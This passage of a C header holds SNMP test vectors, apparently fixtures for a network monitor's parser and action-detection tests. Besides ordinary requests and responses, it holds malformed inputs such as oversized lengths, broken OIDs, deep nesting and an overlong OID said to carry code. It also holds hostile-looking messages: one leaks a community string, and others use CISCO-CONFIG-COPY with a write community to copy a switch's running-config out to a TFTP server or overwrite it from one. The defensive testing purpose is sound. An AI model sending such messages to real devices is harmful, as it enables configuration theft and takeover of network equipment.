/*
 * snmp_vectors: messages for test_snmp and test_snmp_actions, an element a line.
 */
#ifndef SPANWATCH_TESTS_SNMP_VECTORS_H
#define SPANWATCH_TESTS_SNMP_VECTORS_H

/* clang-format off */

/* Version 1, a get of sysDescr.0 */
#define GET \
	"\x30\x26" /* message */ \
	  "\x02\x01\x00" /* version 0 */ \
	  "\x04\x06" "public" /* community "public" */ \
	  "\xa0\x19" /* GetRequest */ \
	    "\x02\x01\x01" /* request-id 1 */ \
	    "\x02\x01\x00" /* error-status 0 */ \
	    "\x02\x01\x00" /* error-index 0 */ \
	    "\x30\x0e" /* varbinds */ \
	      "\x30\x0c" /* varbind */ \
	        "\x06\x08\x2b\x06\x01\x02\x01\x01\x01\x00" /* sysDescr.0 */ \
	        "\x05\x00" /* NULL */

/* ... and what the agent answers */
#define GET_RESPONSE \
	"\x30\x81\xb6" /* message */ \
	  "\x02\x01\x00" /* version 0 */ \
	  "\x04\x06" "public" /* community "public" */ \
	  "\xa2\x81\xa8" /* Response */ \
	    "\x02\x01\x01" /* request-id 1 */ \
	    "\x02\x01\x00" /* error-status 0 */ \
	    "\x02\x01\x00" /* error-index 0 */ \
	    "\x30\x81\x9c" /* varbinds */ \
	      "\x30\x6d" /* varbind */ \
	        "\x06\x08\x2b\x06\x01\x02\x01\x01\x01\x00" /* sysDescr.0 */ \
	        "\x04\x61" "Cisco IOS Software, C2960 Software (C2960-LANBASEK9-M), Version " \
	          "15.2(2)E6, RELEASE SOFTWARE (fc1)" \
	      "\x30\x15" /* varbind */ \
	        "\x06\x08\x2b\x06\x01\x02\x01\x01\x02\x00" /* sysObjectID.0 */ \
	        "\x06\x09\x2b\x06\x01\x04\x01\x09\x01\x89\x38" /* 1.3.6.1.4.1.9.1.1208 */ \
	      "\x30\x14" /* varbind */ \
	        "\x06\x08\x2b\x06\x01\x02\x01\x01\x05\x00" /* sysName.0 */ \
	        "\x04\x08" "sw-lon-1"

/* Version 2c, a response with a value of every type */
#define TYPES \
	"\x30\x82\x01\x0f" /* message */ \
	  "\x02\x01\x01" /* version 1 */ \
	  "\x04\x06" "public" /* community "public" */ \
	  "\xa2\x82\x01\x00" /* Response */ \
	    "\x02\x01\xf9" /* request-id -7 */ \
	    "\x02\x01\x00" /* error-status 0 */ \
	    "\x02\x01\x00" /* error-index 0 */ \
	    "\x30\x81\xf4" /* varbinds */ \
	      "\x30\x0e" /* varbind */ \
	        "\x06\x08\x2b\x06\x01\x02\x01\x01\x03\x00" /* 1.3.6.1.2.1.1.3.0 */ \
	        "\x43\x02\x30\x39" /* TimeTicks */ \
	      "\x30\x0d" /* varbind */ \
	        "\x06\x08\x2b\x06\x01\x02\x01\x02\x01\x00" /* 1.3.6.1.2.1.2.1.0 */ \
	        "\x02\x01\xfe" /* -2 */ \
	      "\x30\x13" /* varbind */ \
	        "\x06\x0a\x2b\x06\x01\x02\x01\x02\x02\x01\x0a\x01" /* 1.3.6.1.2.1.2.2.1.10.1 */ \
	        "\x41\x05\x00\xff\xff\xff\xff" /* Counter32 4294967295 */ \
	      "\x30\x18" /* varbind */ \
	        "\x06\x0b\x2b\x06\x01\x02\x01\x1f\x01\x01\x01\x06\x01" /* 1.3.6.1.2.1.31.1.1.1.6.1 */ \
	        "\x46\x09\x00\xff\xff\xff\xff\xff\xff\xff\xff" /* Counter64 18446744073709551615 */ \
	      "\x30\x12" /* varbind */ \
	        "\x06\x0a\x2b\x06\x01\x02\x01\x02\x02\x01\x05\x01" /* 1.3.6.1.2.1.2.2.1.5.1 */ \
	        "\x42\x04\x3b\x9a\xca\x00" /* Gauge32 */ \
	      "\x30\x15" /* varbind */ \
	        "\x06\x0d\x2b\x06\x01\x02\x01\x04\x14\x01\x01\x0a\x00\x00\x02" /* 1.3.6.1.2.1.4.20.1.1.10.0.0.2 */ \
	        "\x40\x04\x0a\x00\x00\x02" /* IpAddress 10.0.0.2 */ \
	      "\x30\x14" /* varbind */ \
	        "\x06\x0a\x2b\x06\x01\x02\x01\x02\x02\x01\x06\x01" /* 1.3.6.1.2.1.2.2.1.6.1 */ \
	        "\x04\x06\x00\x11\x22\x33\x44\x55" /* a MAC address */ \
	      "\x30\x16" /* varbind */ \
	        "\x06\x0b\x2b\x06\x01\x04\x01\x8f\x65\x0a\x01\x06\x01" /* 1.3.6.1.4.1.2021.10.1.6.1 */ \
	        "\x44\x07\x9f\x78\x04\x3e\x99\x99\x9a" /* Opaque float */ \
	      "\x30\x0f" /* varbind */ \
	        "\x06\x0a\x2b\x06\x01\x02\x01\x02\x02\x01\x16\x01" /* 1.3.6.1.2.1.2.2.1.22.1 */ \
	        "\x06\x01\x00" /* 0.0 */ \
	      "\x30\x13" /* varbind */ \
	        "\x06\x08\x2b\x06\x01\x02\x01\x01\x06\x00" /* 1.3.6.1.2.1.1.6.0 */ \
	        "\x04\x07\x5a\xc3\xbc\x72\x69\x63\x68" /* UTF-8 */ \
	      "\x30\x0b" /* varbind */ \
	        "\x06\x07\x2b\x06\x01\x02\x01\x63\x01" /* 1.3.6.1.2.1.99.1 */ \
	        "\x80\x00" /* noSuchObject */ \
	      "\x30\x0b" /* varbind */ \
	        "\x06\x07\x2b\x06\x01\x02\x01\x63\x02" /* 1.3.6.1.2.1.99.2 */ \
	        "\x81\x00" /* noSuchInstance */ \
	      "\x30\x0b" /* varbind */ \
	        "\x06\x07\x2b\x06\x01\x02\x01\x63\x03" /* 1.3.6.1.2.1.99.3 */ \
	        "\x82\x00" /* endOfMibView */

/* A get-bulk of mib-2 */
#define BULK \
	"\x30\x23" /* message */ \
	  "\x02\x01\x01" /* version 1 */ \
	  "\x04\x06" "public" /* community "public" */ \
	  "\xa5\x16" /* GetBulkRequest */ \
	    "\x02\x01\x02" /* request-id 2 */ \
	    "\x02\x01\x00" /* non-repeaters 0 */ \
	    "\x02\x01\x19" /* max-repetitions 25 */ \
	    "\x30\x0b" /* varbinds */ \
	      "\x30\x09" /* varbind */ \
	        "\x06\x05\x2b\x06\x01\x02\x01" /* 1.3.6.1.2.1 */ \
	        "\x05\x00" /* NULL */

/* Version 3: engine discovery, a get without varbinds */
#define DISCOVER \
	"\x30\x38" /* message */ \
	  "\x02\x01\x03" /* version 3 */ \
	  "\x30\x0e" /* header */ \
	    "\x02\x01\x64" /* msgID 100 */ \
	    "\x02\x03\x00\xff\xe3" /* msgMaxSize */ \
	    "\x04\x01\x04" /* msgFlags 4 */ \
	    "\x02\x01\x03" /* msgSecurityModel 3 */ \
	  "\x04\x10" /* security parameters */ \
	    "\x30\x0e" /* USM parameters */ \
	      "\x04\x00" /* engine id */ \
	      "\x02\x01\x00" /* boots 0 */ \
	      "\x02\x01\x00" /* time 0 */ \
	      "\x04\x00" /* user "" */ \
	      "\x04\x00" /* authentication */ \
	      "\x04\x00" /* privacy */ \
	  "\x30\x11" /* scoped PDU */ \
	    "\x04\x00" /* context engine id */ \
	    "\x04\x00" /* context "" */ \
	    "\xa0\x0b" /* GetRequest */ \
	      "\x02\x01\x05" /* request-id 5 */ \
	      "\x02\x01\x00" /* error-status 0 */ \
	      "\x02\x01\x00" /* error-index 0 */ \
	      "\x30\x00" /* varbinds */

/* ... and the report that answers it */
#define DISCOVERED \
	"\x30\x60" /* message */ \
	  "\x02\x01\x03" /* version 3 */ \
	  "\x30\x0e" /* header */ \
	    "\x02\x01\x64" /* msgID 100 */ \
	    "\x02\x03\x00\xff\xe3" /* msgMaxSize */ \
	    "\x04\x01\x00" /* msgFlags 0 */ \
	    "\x02\x01\x03" /* msgSecurityModel 3 */ \
	  "\x04\x1c" /* security parameters */ \
	    "\x30\x1a" /* USM parameters */ \
	      "\x04\x0b\x80\x00\x00\x09\x03\x00\x11\x22\x33\x44\x55" /* engine id */ \
	      "\x02\x01\x03" /* boots 3 */ \
	      "\x02\x02\x12\x67" /* time 4711 */ \
	      "\x04\x00" /* user "" */ \
	      "\x04\x00" /* authentication */ \
	      "\x04\x00" /* privacy */ \
	  "\x30\x2d" /* scoped PDU */ \
	    "\x04\x0b\x80\x00\x00\x09\x03\x00\x11\x22\x33\x44\x55" /* context engine id */ \
	    "\x04\x00" /* context "" */ \
	    "\xa8\x1c" /* Report */ \
	      "\x02\x01\x05" /* request-id 5 */ \
	      "\x02\x01\x00" /* error-status 0 */ \
	      "\x02\x01\x00" /* error-index 0 */ \
	      "\x30\x11" /* varbinds */ \
	        "\x30\x0f" /* varbind */ \
	          "\x06\x0a\x2b\x06\x01\x06\x03\x0f\x01\x01\x04\x00" /* usmStatsUnknownEngineIDs.0 */ \
	          "\x41\x01\x09" /* Counter32 9 */

/* Version 3, authenticated and encrypted */
#define SEALED \
	"\x30\x5f" /* message */ \
	  "\x02\x01\x03" /* version 3 */ \
	  "\x30\x0e" /* header */ \
	    "\x02\x01\x65" /* msgID 101 */ \
	    "\x02\x03\x00\xff\xe3" /* msgMaxSize */ \
	    "\x04\x01\x07" /* msgFlags 7 */ \
	    "\x02\x01\x03" /* msgSecurityModel 3 */ \
	  "\x04\x38" /* security parameters */ \
	    "\x30\x36" /* USM parameters */ \
	      "\x04\x0b\x80\x00\x00\x09\x03\x00\x11\x22\x33\x44\x55" /* engine id */ \
	      "\x02\x01\x03" /* boots 3 */ \
	      "\x02\x02\x12\x68" /* time 4712 */ \
	      "\x04\x08" "operator" /* user "operator" */ \
	      "\x04\x0c\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00" /* authentication */ \
	      "\x04\x08\x00\x00\x00\x00\x00\x00\x00\x00" /* privacy */ \
	  "\x04\x10\x80\x81\x82\x83\x84\x85\x86\x87\x88\x89\x8a\x8b\x8c\x8d" \
	    "\x8e\x8f" /* encrypted */

/* The report that its digest is wrong, without a name */
#define WRONG_DIGEST \
	"\x30\x60" /* message */ \
	  "\x02\x01\x03" /* version 3 */ \
	  "\x30\x0e" /* header */ \
	    "\x02\x01\x65" /* msgID 101 */ \
	    "\x02\x03\x00\xff\xe3" /* msgMaxSize */ \
	    "\x04\x01\x00" /* msgFlags 0 */ \
	    "\x02\x01\x03" /* msgSecurityModel 3 */ \
	  "\x04\x1c" /* security parameters */ \
	    "\x30\x1a" /* USM parameters */ \
	      "\x04\x0b\x80\x00\x00\x09\x03\x00\x11\x22\x33\x44\x55" /* engine id */ \
	      "\x02\x01\x03" /* boots 3 */ \
	      "\x02\x02\x12\x68" /* time 4712 */ \
	      "\x04\x00" /* user "" */ \
	      "\x04\x00" /* authentication */ \
	      "\x04\x00" /* privacy */ \
	  "\x30\x2d" /* scoped PDU */ \
	    "\x04\x0b\x80\x00\x00\x09\x03\x00\x11\x22\x33\x44\x55" /* context engine id */ \
	    "\x04\x00" /* context "" */ \
	    "\xa8\x1c" /* Report */ \
	      "\x02\x01\x00" /* request-id 0 */ \
	      "\x02\x01\x00" /* error-status 0 */ \
	      "\x02\x01\x00" /* error-index 0 */ \
	      "\x30\x11" /* varbinds */ \
	        "\x30\x0f" /* varbind */ \
	          "\x06\x0a\x2b\x06\x01\x06\x03\x0f\x01\x01\x05\x00" /* usmStatsWrongDigests.0 */ \
	          "\x41\x01\x01" /* Counter32 1 */

/* Version 3 without authentication: a set of sysContact.0 */
#define PLAIN_V3 \
	"\x30\x67" /* message */ \
	  "\x02\x01\x03" /* version 3 */ \
	  "\x30\x0e" /* header */ \
	    "\x02\x01\x66" /* msgID 102 */ \
	    "\x02\x03\x00\xff\xe3" /* msgMaxSize */ \
	    "\x04\x01\x04" /* msgFlags 4 */ \
	    "\x02\x01\x03" /* msgSecurityModel 3 */ \
	  "\x04\x22" /* security parameters */ \
	    "\x30\x20" /* USM parameters */ \
	      "\x04\x0b\x80\x00\x00\x09\x03\x00\x11\x22\x33\x44\x55" /* engine id */ \
	      "\x02\x01\x03" /* boots 3 */ \
	      "\x02\x02\x12\x69" /* time 4713 */ \
	      "\x04\x06" "nobody" /* user "nobody" */ \
	      "\x04\x00" /* authentication */ \
	      "\x04\x00" /* privacy */ \
	  "\x30\x2e" /* scoped PDU */ \
	    "\x04\x0b\x80\x00\x00\x09\x03\x00\x11\x22\x33\x44\x55" /* context engine id */ \
	    "\x04\x03" "ctx" /* context "ctx" */ \
	    "\xa3\x1a" /* SetRequest */ \
	      "\x02\x01\x4d" /* request-id 77 */ \
	      "\x02\x01\x00" /* error-status 0 */ \
	      "\x02\x01\x00" /* error-index 0 */ \
	      "\x30\x0f" /* varbinds */ \
	        "\x30\x0d" /* varbind */ \
	          "\x06\x08\x2b\x06\x01\x02\x01\x01\x04\x00" /* sysContact.0 */ \
	          "\x04\x01" "x"

/* ... and its response */
#define PLAIN_V3_OK \
	"\x30\x67" /* message */ \
	  "\x02\x01\x03" /* version 3 */ \
	  "\x30\x0e" /* header */ \
	    "\x02\x01\x66" /* msgID 102 */ \
	    "\x02\x03\x00\xff\xe3" /* msgMaxSize */ \
	    "\x04\x01\x00" /* msgFlags 0 */ \
	    "\x02\x01\x03" /* msgSecurityModel 3 */ \
	  "\x04\x22" /* security parameters */ \
	    "\x30\x20" /* USM parameters */ \
	      "\x04\x0b\x80\x00\x00\x09\x03\x00\x11\x22\x33\x44\x55" /* engine id */ \
	      "\x02\x01\x03" /* boots 3 */ \
	      "\x02\x02\x12\x69" /* time 4713 */ \
	      "\x04\x06" "nobody" /* user "nobody" */ \
	      "\x04\x00" /* authentication */ \
	      "\x04\x00" /* privacy */ \
	  "\x30\x2e" /* scoped PDU */ \
	    "\x04\x0b\x80\x00\x00\x09\x03\x00\x11\x22\x33\x44\x55" /* context engine id */ \
	    "\x04\x03" "ctx" /* context "ctx" */ \
	    "\xa2\x1a" /* Response */ \
	      "\x02\x01\x4d" /* request-id 77 */ \
	      "\x02\x01\x00" /* error-status 0 */ \
	      "\x02\x01\x00" /* error-index 0 */ \
	      "\x30\x0f" /* varbinds */ \
	        "\x30\x0d" /* varbind */ \
	          "\x06\x08\x2b\x06\x01\x02\x01\x01\x04\x00" /* sysContact.0 */ \
	          "\x04\x01" "x"

/* Lengths and numbers longer than they need be: BER allows it */
#define LONG_FORMS \
	"\x30\x84\x00\x00\x00\x29" /* length in four octets, leading zeros */ \
	  "\x02\x04\x00\x00\x00\x01" /* version 1 in four octets */ \
	  "\x04\x06" "public" /* community */ \
	  "\xa0\x19" /* GetRequest */ \
	    "\x02\x01\x01" /* request-id 1 */ \
	    "\x02\x01\x00" /* error-status 0 */ \
	    "\x02\x01\x00" /* error-index 0 */ \
	    "\x30\x0e" /* varbinds */ \
	      "\x30\x0c" /* varbind */ \
	        "\x06\x08\x2b\x06\x01\x02\x01\x01\x01\x00" /* 1.3.6.1.2.1.1.1.0 */ \
	        "\x05\x00" /* NULL */

/* Indefinite length, which RFC 3417 section 8 forbids */
#define INDEFINITE \
	"\x30\x80" /* indefinite length */ \
	  "\x02\x01\x01" /* 1 */ \
	  "\x04\x06" "public" \
	  "\xa0\x19" /* GetRequest */ \
	    "\x02\x01\x01" /* request-id 1 */ \
	    "\x02\x01\x00" /* error-status 0 */ \
	    "\x02\x01\x00" /* error-index 0 */ \
	    "\x30\x0e" /* varbinds */ \
	      "\x30\x0c" /* varbind */ \
	        "\x06\x08\x2b\x06\x01\x02\x01\x01\x01\x00" /* 1.3.6.1.2.1.1.1.0 */ \
	        "\x05\x00" /* NULL */ \
	  "\x00\x00" /* end of contents */

/* A length that no datagram can hold */
#define LENGTH_TOO_LARGE \
	"\x30\x84\xff\xff\xff\xff" /* length 2^32 - 1 */ \
	  "\x02\x01\x01" /* 1 */ \
	  "\x04\x06" "public" \
	  "\xa0\x19" /* GetRequest */ \
	    "\x02\x01\x01" /* request-id 1 */ \
	    "\x02\x01\x00" /* error-status 0 */ \
	    "\x02\x01\x00" /* error-index 0 */ \
	    "\x30\x0e" /* varbinds */ \
	      "\x30\x0c" /* varbind */ \
	        "\x06\x08\x2b\x06\x01\x02\x01\x01\x01\x00" /* 1.3.6.1.2.1.1.1.0 */ \
	        "\x05\x00" /* NULL */

/* A length of five octets */
#define LENGTH_OF_FIVE \
	"\x30\x85\x00\x00\x00\x00\x26" /* length in five octets */ \
	  "\x02\x01\x01" /* 1 */ \
	  "\x04\x06" "public" \
	  "\xa0\x19" /* GetRequest */ \
	    "\x02\x01\x01" /* request-id 1 */ \
	    "\x02\x01\x00" /* error-status 0 */ \
	    "\x02\x01\x00" /* error-index 0 */ \
	    "\x30\x0e" /* varbinds */ \
	      "\x30\x0c" /* varbind */ \
	        "\x06\x08\x2b\x06\x01\x02\x01\x01\x01\x00" /* 1.3.6.1.2.1.1.1.0 */ \
	        "\x05\x00" /* NULL */

/* OIDs as nobody may send them */
#define ODD_OIDS \
	"\x30\x40" /* message */ \
	  "\x02\x01\x01" /* version 1 */ \
	  "\x04\x06" "public" /* community "public" */ \
	  "\xa0\x33" /* GetRequest */ \
	    "\x02\x01\x03" /* request-id 3 */ \
	    "\x02\x01\x00" /* error-status 0 */ \
	    "\x02\x01\x00" /* error-index 0 */ \
	    "\x30\x28" /* varbinds */ \
	      "\x30\x18" /* varbind */ \
	        "\x06\x14\x2b\x90\x80\x80\x80\x01\x80\x01\xff\xff\xff\xff\xff\xff" \
	          "\xff\xff\xff\xff\xff\x7f" /* 1.3.(2^32 + 1).(padded 1).(larger than 64 bits) */ \
	        "\x05\x00" /* NULL */ \
	      "\x30\x06" /* varbind */ \
	        "\x06\x02\x2b\x86" /* ends inside a sub-identifier */ \
	        "\x05\x00" /* NULL */ \
	      "\x30\x04" /* varbind */ \
	        "\x06\x00" /* empty */ \
	        "\x05\x00" /* NULL */

/* An OID that carries code: 71 sub-identifiers under an old Cisco table */
#define LONG_OID \
	"\x30\x65" /* message */ \
	  "\x02\x01\x01" /* version 1 */ \
	  "\x04\x07" "private" /* community "private" */ \
	  "\xa0\x57" /* GetRequest */ \
	    "\x02\x01\x04" /* request-id 4 */ \
	    "\x02\x01\x00" /* error-status 0 */ \
	    "\x02\x01\x00" /* error-index 0 */ \
	    "\x30\x4c" /* varbinds */ \
	      "\x30\x4a" /* varbind */ \
	        "\x06\x46\x2b\x06\x01\x04\x01\x09\x09\x5f\x01\x03\x01\x01\x07\x01" \
	          "\x02\x03\x04\x05\x06\x07\x08\x01\x02\x03\x04\x05\x06\x07\x08\x01" \
	          "\x02\x03\x04\x05\x06\x07\x08\x01\x02\x03\x04\x05\x06\x07\x08\x01" \
	          "\x02\x03\x04\x05\x06\x07\x08\x01\x02\x03\x04\x05\x06\x07\x08\x01" \
	          "\x02\x03\x04\x05\x06\x07\x08\x09" /* 71 sub-identifiers */ \
	        "\x05\x00" /* NULL */

/* A value that nests forty levels deep */
#define NESTED \
	"\x30\x76" /* message */ \
	  "\x02\x01\x01" /* version 1 */ \
	  "\x04\x06" "public" /* community "public" */ \
	  "\xa0\x69" /* GetRequest */ \
	    "\x02\x01\x06" /* request-id 6 */ \
	    "\x02\x01\x00" /* error-status 0 */ \
	    "\x02\x01\x00" /* error-index 0 */ \
	    "\x30\x5e" /* varbinds */ \
	      "\x30\x5c" /* varbind */ \
	        "\x06\x08\x2b\x06\x01\x02\x01\x01\x01\x00" /* 1.3.6.1.2.1.1.1.0 */ \
	        "\x30\x50\x30\x4e\x30\x4c\x30\x4a\x30\x48\x30\x46\x30\x44\x30\x42" \
	          "\x30\x40\x30\x3e\x30\x3c\x30\x3a\x30\x38\x30\x36\x30\x34\x30\x32" \
	          "\x30\x30\x30\x2e\x30\x2c\x30\x2a\x30\x28\x30\x26\x30\x24\x30\x22" \
	          "\x30\x20\x30\x1e\x30\x1c\x30\x1a\x30\x18\x30\x16\x30\x14\x30\x12" \
	          "\x30\x10\x30\x0e\x30\x0c\x30\x0a\x30\x08\x30\x06\x30\x04\x30\x02" \
	          "\x05\x00" /* forty levels of SEQUENCE */

/* A varbind without a value, and a good one behind it */
#define SHORT_VARBIND \
	"\x30\x32" /* message */ \
	  "\x02\x01\x01" /* version 1 */ \
	  "\x04\x06" "public" /* community "public" */ \
	  "\xa0\x25" /* GetRequest */ \
	    "\x02\x01\x07" /* request-id 7 */ \
	    "\x02\x01\x00" /* error-status 0 */ \
	    "\x02\x01\x00" /* error-index 0 */ \
	    "\x30\x1a" /* varbinds */ \
	      "\x30\x0a" /* varbind without a value */ \
	        "\x06\x08\x2b\x06\x01\x02\x01\x01\x01\x00" /* 1.3.6.1.2.1.1.1.0 */ \
	      "\x30\x0c" /* varbind */ \
	        "\x06\x08\x2b\x06\x01\x02\x01\x01\x03\x00" /* 1.3.6.1.2.1.1.3.0 */ \
	        "\x05\x00" /* NULL */

/* Error status and index below zero */
#define NEGATIVE_INDEX \
	"\x30\x26" /* message */ \
	  "\x02\x01\x01" /* version 1 */ \
	  "\x04\x06" "public" /* community "public" */ \
	  "\xa2\x19" /* Response */ \
	    "\x02\x01\x08" /* request-id 8 */ \
	    "\x02\x01\xff" /* error-status -1 */ \
	    "\x02\x01\x80" /* error-index -128 */ \
	    "\x30\x0e" /* varbinds */ \
	      "\x30\x0c" /* varbind */ \
	        "\x06\x08\x2b\x06\x01\x02\x01\x01\x01\x00" /* 1.3.6.1.2.1.1.1.0 */ \
	        "\x05\x00" /* NULL */

/* A response that tells a community */
#define SECRET_READ \
	"\x30\x39" /* message */ \
	  "\x02\x01\x01" /* version 1 */ \
	  "\x04\x06" "public" /* community "public" */ \
	  "\xa2\x2c" /* Response */ \
	    "\x02\x01\x09" /* request-id 9 */ \
	    "\x02\x01\x00" /* error-status 0 */ \
	    "\x02\x01\x00" /* error-index 0 */ \
	    "\x30\x21" /* varbinds */ \
	      "\x30\x1f" /* varbind */ \
	        "\x06\x0b\x2b\x06\x01\x06\x03\x12\x01\x01\x01\x02\x01" /* snmpCommunityName.1 */ \
	        "\x04\x10" "s3cret-community"

/* A set of two objects */
#define SET_TWO \
	"\x30\x47" /* message */ \
	  "\x02\x01\x01" /* version 1 */ \
	  "\x04\x07" "private" /* community "private" */ \
	  "\xa3\x39" /* SetRequest */ \
	    "\x02\x01\x14" /* request-id 20 */ \
	    "\x02\x01\x00" /* error-status 0 */ \
	    "\x02\x01\x00" /* error-index 0 */ \
	    "\x30\x2e" /* varbinds */ \
	      "\x30\x1b" /* varbind */ \
	        "\x06\x08\x2b\x06\x01\x02\x01\x01\x04\x00" /* sysContact.0 */ \
	        "\x04\x0f" "noc@example.net" \
	      "\x30\x0f" /* varbind */ \
	        "\x06\x0a\x2b\x06\x01\x02\x01\x02\x02\x01\x07\x15" /* ifAdminStatus.21 down */ \
	        "\x02\x01\x02" /* 2 */

/* ... done */
#define SET_TWO_OK \
	"\x30\x47" /* message */ \
	  "\x02\x01\x01" /* version 1 */ \
	  "\x04\x07" "private" /* community "private" */ \
	  "\xa2\x39" /* Response */ \
	    "\x02\x01\x14" /* request-id 20 */ \
	    "\x02\x01\x00" /* error-status 0 */ \
	    "\x02\x01\x00" /* error-index 0 */ \
	    "\x30\x2e" /* varbinds */ \
	      "\x30\x1b" /* varbind */ \
	        "\x06\x08\x2b\x06\x01\x02\x01\x01\x04\x00" /* 1.3.6.1.2.1.1.4.0 */ \
	        "\x04\x0f" "noc@example.net" \
	      "\x30\x0f" /* varbind */ \
	        "\x06\x0a\x2b\x06\x01\x02\x01\x02\x02\x01\x07\x15" /* 1.3.6.1.2.1.2.2.1.7.21 */ \
	        "\x02\x01\x02" /* 2 */

/* ... or refused: notWritable */
#define SET_TWO_NO \
	"\x30\x36" /* message */ \
	  "\x02\x01\x01" /* version 1 */ \
	  "\x04\x07" "private" /* community "private" */ \
	  "\xa2\x28" /* Response */ \
	    "\x02\x01\x14" /* request-id 20 */ \
	    "\x02\x01\x11" /* error-status 17 */ \
	    "\x02\x01\x01" /* error-index 1 */ \
	    "\x30\x1d" /* varbinds */ \
	      "\x30\x1b" /* varbind */ \
	        "\x06\x08\x2b\x06\x01\x02\x01\x01\x04\x00" /* 1.3.6.1.2.1.1.4.0 */ \
	        "\x04\x0f" "noc@example.net"

/* CISCO-CONFIG-COPY: running-config to a TFTP server */
#define COPY_OUT \
	"\x30\x81\xab" /* message */ \
	  "\x02\x01\x01" /* version 1 */ \
	  "\x04\x07" "private" /* community "private" */ \
	  "\xa3\x81\x9c" /* SetRequest */ \
	    "\x02\x01\x15" /* request-id 21 */ \
	    "\x02\x01\x00" /* error-status 0 */ \
	    "\x02\x01\x00" /* error-index 0 */ \
	    "\x30\x81\x90" /* varbinds */ \
	      "\x30\x14" /* varbind */ \
	        "\x06\x0f\x2b\x06\x01\x04\x01\x09\x09\x60\x01\x01\x01\x01\x02\x82" \
	          "\x50" /* ccCopyProtocol tftp */ \
	        "\x02\x01\x01" /* 1 */ \
	      "\x30\x14" /* varbind */ \
	        "\x06\x0f\x2b\x06\x01\x04\x01\x09\x09\x60\x01\x01\x01\x01\x03\x82" \
	          "\x50" /* ccCopySourceFileType */ \
	        "\x02\x01\x04" /* 4 */ \
	      "\x30\x14" /* varbind */ \
	        "\x06\x0f\x2b\x06\x01\x04\x01\x09\x09\x60\x01\x01\x01\x01\x04\x82" \
	          "\x50" /* ccCopyDestFileType */ \
	        "\x02\x01\x01" /* 1 */ \
	      "\x30\x17" /* varbind */ \
	        "\x06\x0f\x2b\x06\x01\x04\x01\x09\x09\x60\x01\x01\x01\x01\x05\x82" \
	          "\x50" /* ccCopyServerAddress */ \
	        "\x40\x04\xc6\x33\x64\x09" /* IpAddress 198.51.100.9 */ \
	      "\x30\x1d" /* varbind */ \
	        "\x06\x0f\x2b\x06\x01\x04\x01\x09\x09\x60\x01\x01\x01\x01\x06\x82" \
	          "\x50" /* ccCopyFileName */ \
	        "\x04\x0a" "config.bkp" \
	      "\x30\x14" /* varbind */ \
	        "\x06\x0f\x2b\x06\x01\x04\x01\x09\x09\x60\x01\x01\x01\x01\x0e\x82" \
	          "\x50" /* ccCopyEntryRowStatus createAndGo */ \
	        "\x02\x01\x04" /* 4 */

/* ... accepted */
#define COPY_OUT_OK \
	"\x30\x2f" /* message */ \
	  "\x02\x01\x01" /* version 1 */ \
	  "\x04\x07" "private" /* community "private" */ \
	  "\xa2\x21" /* Response */ \
	    "\x02\x01\x15" /* request-id 21 */ \
	    "\x02\x01\x00" /* error-status 0 */ \
	    "\x02\x01\x00" /* error-index 0 */ \
	    "\x30\x16" /* varbinds */ \
	      "\x30\x14" /* varbind */ \
	        "\x06\x0f\x2b\x06\x01\x04\x01\x09\x09\x60\x01\x01\x01\x01\x0e\x82" \
	          "\x50" /* row status */ \
	        "\x02\x01\x04" /* 4 */

/* CISCO-CONFIG-COPY: from a TFTP server into the running-config */
#define COPY_IN \
	"\x30\x81\xab" /* message */ \
	  "\x02\x01\x01" /* version 1 */ \
	  "\x04\x07" "private" /* community "private" */ \
	  "\xa3\x81\x9c" /* SetRequest */ \
	    "\x02\x01\x16" /* request-id 22 */ \
	    "\x02\x01\x00" /* error-status 0 */ \
	    "\x02\x01\x00" /* error-index 0 */ \
	    "\x30\x81\x90" /* varbinds */ \
	      "\x30\x14" /* varbind */ \
	        "\x06\x0f\x2b\x06\x01\x04\x01\x09\x09\x60\x01\x01\x01\x01\x02\x82" \
	          "\x50" /* ccCopyProtocol tftp */ \
	        "\x02\x01\x01" /* 1 */ \
	      "\x30\x14" /* varbind */ \
	        "\x06\x0f\x2b\x06\x01\x04\x01\x09\x09\x60\x01\x01\x01\x01\x03\x82" \
	          "\x50" /* ccCopySourceFileType */ \
	        "\x02\x01\x01" /* 1 */ \
	      "\x30\x14" /* varbind */ \
	        "\x06\x0f\x2b\x06\x01\x04\x01\x09\x09\x60\x01\x01\x01\x01\x04\x82" \
	          "\x50" /* ccCopyDestFileType */ \
	        "\x02\x01\x04" /* 4 */ \
	      "\x30\x17" /* varbind */ \
	        "\x06\x0f\x2b\x06\x01\x04\x01\x09\x09\x60\x01\x01\x01\x01\x05\x82" \
	          "\x50" /* ccCopyServerAddress */ \
	        "\x40\x04\xc6\x33\x64\x09" /* IpAddress 198.51.100.9 */ \
	      "\x30\x1d" /* varbind */ \
	        "\x06\x0f\x2b\x06\x01\x04\x01\x09\x09\x60\x01\x01\x01\x01\x06\x82" \
	          "\x50" /* ccCopyFileName */ \
	        "\x04\x0a" "config.bkp" \
	      "\x30\x14" /* varbind */ \
	        "\x06\x0f\x2b\x06\x01\x04\x01\x09\x09\x60\x01\x01\x01\x01\x0e\x82" \
	          "\x50" /* ccCopyEntryRowStatus createAndGo */ \
	        "\x02\x01\x04" /* 4 */

/* The same copy, column by column in messages of their own */
#define COPY_STEP_1 \
	"\x30\x2f" /* message */ \
	  "\x02\x01\x01" /* version 1 */ \
	  "\x04\x07" "private" /* community "private" */ \
	  "\xa3\x21" /* SetRequest */ \
	    "\x02\x01\x1e" /* request-id 30 */ \
	    "\x02\x01\x00" /* error-status 0 */ \
	    "\x02\x01\x00" /* error-index 0 */ \
	    "\x30\x16" /* varbinds */ \
	      "\x30\x14" /* varbind */ \
	        "\x06\x0f\x2b\x06\x01\x04\x01\x09\x09\x60\x01\x01\x01\x01\x03\x82" \
	          "\x50" /* source running */ \
	        "\x02\x01\x04" /* 4 */

/* The same copy, column by column in messages of their own */
#define COPY_STEP_2 \
	"\x30\x2f" /* message */ \
	  "\x02\x01\x01" /* version 1 */ \
	  "\x04\x07" "private" /* community "private" */ \
	  "\xa3\x21" /* SetRequest */ \
	    "\x02\x01\x1f" /* request-id 31 */ \
	    "\x02\x01\x00" /* error-status 0 */ \
	    "\x02\x01\x00" /* error-index 0 */ \
	    "\x30\x16" /* varbinds */ \
	      "\x30\x14" /* varbind */ \
	        "\x06\x0f\x2b\x06\x01\x04\x01\x09\x09\x60\x01\x01\x01\x01\x04\x82" \
	          "\x50" /* destination network */ \
	        "\x02\x01\x01" /* 1 */

/* The same copy, column by column in messages of their own */
#define COPY_STEP_3 \
	"\x30\x32" /* message */ \
